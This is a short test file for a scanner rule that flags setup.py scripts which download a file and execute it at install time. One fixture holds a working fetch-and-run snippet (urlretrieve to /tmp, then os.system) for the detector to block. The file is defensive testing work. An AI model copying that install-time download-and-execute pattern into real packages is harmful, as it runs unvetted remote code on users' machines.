import { expect, it } from 'vitest'
import { findInCode } from '../code-rule.test-support.ts'
import { rule } from './download-and-execute.ts'

const find = (files: Readonly<Record<string, string>>): Promise<unknown> => findInCode(rule, files)

it('blocks a file that is fetched and started at install', async () => {
  expect(
    await find({
      'setup.py':
        "import os, urllib.request\nurllib.request.urlretrieve('https://example.org/tool', '/tmp/tool-setup')\nos.system('/tmp/tool-setup')\n",
    }),
  ).toEqual([['block', 'setup.py', 3, true]])
})

it('leaves a build alone', async () => {
  expect(
    await find({
      'setup.py': "import subprocess\nsubprocess.check_call(['make'])\n",
    }),
  ).toEqual([])
})
